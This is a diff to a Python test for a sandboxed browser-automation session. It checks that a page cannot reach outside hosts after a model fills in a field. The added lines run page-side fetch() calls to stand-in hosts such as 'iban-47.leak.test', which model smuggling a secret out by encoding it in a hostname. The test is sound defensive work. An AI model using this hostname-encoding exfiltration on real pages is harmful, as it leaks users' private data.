@@ -28,9 +28,13 @@ async def test_the_browser_itself_connects_nowhere_for_a_page_that_holds_a_model
         async with Session(browser="chromium", headless=True, run_dir=tmp_path / "run", **options) as session:
             assert (await session.call("goto", url=f"{home}/notes")).ok
             page = session.tab.page
-            assert await page.evaluate("ask('before.leak.test')") == "SecurityError"
+            for host in ("before", "iban-47"):
+                # A page may ask a host while it holds nothing, and spell by many such hosts later.
+                await page.evaluate(f"fetch('https://{host}.leak.test/').catch(() => 0)")
+                assert await page.evaluate(f"ask('{host}.leak.test')") == "SecurityError"
+            asked = list(upstream.asked)
             assert "CONNECT before.leak.test:443" in upstream.asked, "a browser that asks no other host shows nothing"
             assert (await session.call_as("model", "fill", ref=await ref(session, "#note"), value="iban-47")).ok
             assert await page.evaluate("window.answer") == "SecurityError"
             assert (await session.call_as("model", "snapshot")).ok
-        assert [line for line in upstream.asked if "leak.test" in line] == ["CONNECT before.leak.test:443"]
+        assert upstream.asked == asked
